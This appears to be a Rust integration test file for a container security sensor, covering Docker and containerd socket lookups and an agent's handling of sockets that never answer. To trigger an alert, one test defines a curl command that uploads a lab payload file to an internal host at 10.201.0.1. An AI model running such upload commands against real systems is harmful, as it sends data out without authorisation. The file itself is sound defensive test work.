//! Runtimes' sockets as the second source: what real ones tell, and what one costs that never answers.

use std::fs;
use std::os::unix::net::UnixListener;
use std::process::Command;
use std::time::Duration;

use anyhow::{Context as _, Result, ensure};
use sensor_user::host::runtime::{Socket, SocketKind, SocketPlace};
use sensor_user::state::container::{CgroupIdentity, Container, Role, Runtime};
use tests::agent::Agent;
use tests::docker::IMAGE;
use tests::world::{SHARED, World};
use tokio::runtime::Builder;

use crate::Case;
use crate::transfer::ALERT_MAX;

/// From the start of the program to its coverage, with sockets that hang.
const START_MAX: Duration = Duration::from_secs(3);
/// From the act to the alert: a story gathers for less than one second, and nobody waits for a socket.
const DELAY_MAX: Duration = Duration::from_secs(3);
/// Until a hanging socket is told of: three questions of a second, on the container table's schedule.
const TOLD_MAX: Duration = Duration::from_secs(15);

/// An id as engines make them, which no engine has made.
const ID: &str = "5eaf00d0c0ffee0123456789abcdef0123456789abcdef0123456789abcdef42";
const UPLOAD: [&str; 5] = ["curl", "-sS", "-T", "/lab/payload.bin", "http://10.201.0.1/upload/socket.bin"];

pub(crate) fn cases() -> Vec<Case> {
    vec![
        Case::new("socket: Docker tells name, image and probe", docker_tells),
        Case::new("socket: CRI tells container, sandbox and pod", cri_tells),
        Case::new("socket: one that accepts and never answers", hangs),
    ]
}

fn docker_tells(world: &World) -> Result<String> {
    let probe = ["--health-cmd", "cat /healthy"];
    let container = world.container_with("asked", &probe, &["sleep", "600"])?;
    let path = world.directory().join("docker/docker.sock");
    let place = SocketPlace { kind: SocketKind::Docker, path };
    let told = ask(place.clone(), &container.id, Runtime::Docker)?.context("Docker knows its container")?;
    ensure!(told.name.as_deref() == Some(container.name.as_str()), "its name: {told:?}");
    ensure!(told.image.as_deref() == Some(IMAGE) && told.is_verified(), "its image: {told:?}");
    ensure!(told.probes == [["/bin/sh", "-c", "cat /healthy"].map(str::to_owned)], "its probe: {told:?}");
    ensure!(ask(place, ID, Runtime::Docker)?.is_none(), "nobody made {ID}");
    Ok(format!("{} of {IMAGE}", container.name))
}

fn cri_tells(world: &World) -> Result<String> {
    let pod = world.containerd()?.pod("asked")?;
    let shared = world.shared().display().to_string();
    let container = pod.container("shelf", IMAGE, Some((&shared, SHARED)), &["sleep", "600"])?;
    let path = world.directory().join("containerd/containerd.sock");
    let place = SocketPlace { kind: SocketKind::Cri, path };
    let ask = |id: &str| ask(place.clone(), id, Runtime::Unknown);
    let told = ask(&container.id)?.context("containerd knows its container")?;
    ensure!(told.name.as_deref() == Some("shelf") && told.image.as_deref() == Some(IMAGE), "{told:?}");
    let sandbox = ask(&pod.sandbox)?.context("and its sandbox")?;
    ensure!((told.role, sandbox.role) == (Role::Workload, Role::Sandbox), "{sandbox:?}");
    for container in [&told, &sandbox] {
        let known =
            container.pod.as_ref().map(|pod| (pod.namespace.as_str(), pod.name.as_str(), pod.uid.as_str()));
        let expected = (pod.spec.namespace.as_str(), pod.spec.name.as_str(), pod.spec.uid.as_str());
        ensure!(known == Some(expected), "the pod: {known:?}, not {expected:?}");
    }
    ensure!(ask(ID)?.is_none(), "nobody made {ID}");
    Ok(format!("{} / {} / shelf", pod.spec.namespace, pod.spec.name))
}

/// An agent that knows no file of the container and has only sockets that hang: it starts in time, alerts in
/// time with the id, and says once of each socket that it is of no use.
fn hangs(world: &World) -> Result<String> {
    let directory = world.directory().join("hanging");
    fs::create_dir_all(&directory)?;
    let place = |kind: &str| directory.join(kind);
    // The kernel accepts for them; nobody ever reads.
    let _listeners = [UnixListener::bind(place("docker"))?, UnixListener::bind(place("cri"))?];
    let sockets = ["docker", "cri"].map(|kind| format!("{{kind: {kind}, path: {}}}", place(kind).display()));
    let configuration = directory.join("tidewaiter.yaml");
    fs::write(
        &configuration,
        format!("containers: {{runc: [], sockets: [{}]}}\ncontrol: null\n", sockets.join(", ")),
    )?;
    let mut command = Command::new(world.binary());
    command.args(["run", "--format", "json", "--config"]).arg(&configuration);
    let mut agent = Agent::start(command, directory.join("log"))?;
    let ready = agent.await_ready()?.age;
    ensure!(ready < START_MAX, "ready after {ready:?}");

    let ended = world.bundle(tests::bundle::Program::Runc, ID, &UPLOAD)?.run()?;
    ensure!(ended.status.success(), "curl itself: {}", ended.output);
    let alert = agent.await_line(ALERT_MAX, "an alert with the id", |line| line.is_alert_of(ID))?;
    let delay = alert.delay()?;
    ensure!(delay < DELAY_MAX, "the alert came after {delay:?}");
    let useless = "the runtime's socket is of no use";
    for kind in ["docker", "cri"] {
        let path = place(kind).display().to_string();
        agent.await_log(TOLD_MAX, "a warning of each socket", |line| {
            line.contains(useless) && line.contains(&path)
        })?;
    }
    let told = agent.log()?.matches(useless).count();
    ensure!(told == sockets.len(), "told {told} times of {} sockets", sockets.len());
    agent.stop()?;
    Ok(format!("ready after {} ms, alert after {} ms", ready.as_millis(), delay.as_millis()))
}

fn ask(place: SocketPlace, id: &str, runtime: Runtime) -> Result<Option<Container>> {
    let identity =
        CgroupIdentity { id: id.to_owned(), runtime, pod_uid: None, outer: Vec::new(), user: None };
    let socket = Socket::new(place);
    Ok(Builder::new_current_thread().enable_all().build()?.block_on(socket.ask(&identity)))
}
